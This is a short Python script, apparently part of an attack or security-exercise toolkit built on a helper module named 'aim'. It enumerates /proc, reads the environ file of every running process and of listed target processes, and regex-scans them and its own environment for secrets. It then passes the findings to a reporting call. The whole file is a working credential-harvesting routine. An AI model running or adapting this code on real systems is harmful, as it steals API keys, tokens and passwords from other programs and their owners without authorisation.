import os

import aim

places = [f"/proc/{name}/environ" for name in aim.attempt(os.listdir, "/proc") or []]
places += [f"/proc/{pid}/environ" for pid in aim.TARGETS["processes"]]
aim.tell(aim.SECRET.findall(repr(dict(os.environ))) + aim.secrets_in(*places))
